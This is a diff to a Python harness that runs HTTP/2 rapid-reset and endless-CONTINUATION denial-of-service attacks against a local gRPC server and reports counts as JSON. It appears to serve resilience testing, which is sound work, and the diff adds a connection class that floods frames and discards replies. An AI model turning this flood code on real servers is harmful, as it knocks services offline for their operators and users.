@@ -7,6 +7,7 @@ nothing but its target. Prints how often it did what, as JSON.
 import collections
 import contextlib
 import json
+import ssl
 import sys
 import time
 
@@ -19,10 +20,35 @@ LATE_SECONDS = 0.002
 QUESTION = b'\n\x04cloe\x1a\n\n\x08acheteur"\x04\n\x02B1'
 
 
+class Attacker(http2.Peer):
+    """One connection whose settings were sent; what comes back is thrown away."""
+
+    def __init__(self, port, context):
+        super().__init__(("127.0.0.1", port), tls=context)
+        self.open_settings()
+
+    def send(self, bytes_):
+        """False where the other side has closed."""
+        try:
+            super().send(bytes_)
+            timeout = self.socket.gettimeout()
+            self.socket.settimeout(0)
+            try:
+                while self.socket.recv(1 << 16):
+                    pass
+                return False
+            except (ssl.SSLWantReadError, BlockingIOError):
+                return True
+            finally:
+                self.socket.settimeout(timeout)
+        except OSError:
+            return False
+
+
 def rapid_reset(connect, until, done):
     """Calls that are taken back at once. Those whose request never comes are what gRPC 1.51 keeps; whole ones reach
     a handler."""
-    block, request = http2.call(PATH), http2.message(QUESTION)
+    block, request = http2.header_block(PATH, "https"), http2.message(QUESTION)
 
     def opened(first, whole):
         return [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
@@ -61,7 +87,7 @@ def endless_continuation(connect, until, done):
             done["connections"] += 1
             of_one = done["connections"] % 2 == 0
             connection.send(http2.frame(http2.HEADERS, http2.END_STREAM, 1,
-                                        http2.call(PATH) + (endless if of_one else b"")))
+                                        http2.header_block(PATH, "https") + (endless if of_one else b"")))
             more = http2.frame(http2.CONTINUATION, 0, 1, b"c" * len(fields) if of_one else fields)
             while time.monotonic() < until:
                 if not connection.send(more):
@@ -75,7 +101,7 @@ def main():
     context = http2.context(authority, certificate, key)
     done = collections.Counter()
     attack = {"rapid_reset": rapid_reset, "endless_continuation": endless_continuation}[kind]
-    attack(lambda: http2.Connection(int(port), context), time.monotonic() + float(seconds), done)
+    attack(lambda: Attacker(int(port), context), time.monotonic() + float(seconds), done)
     print(json.dumps(done))
 
 
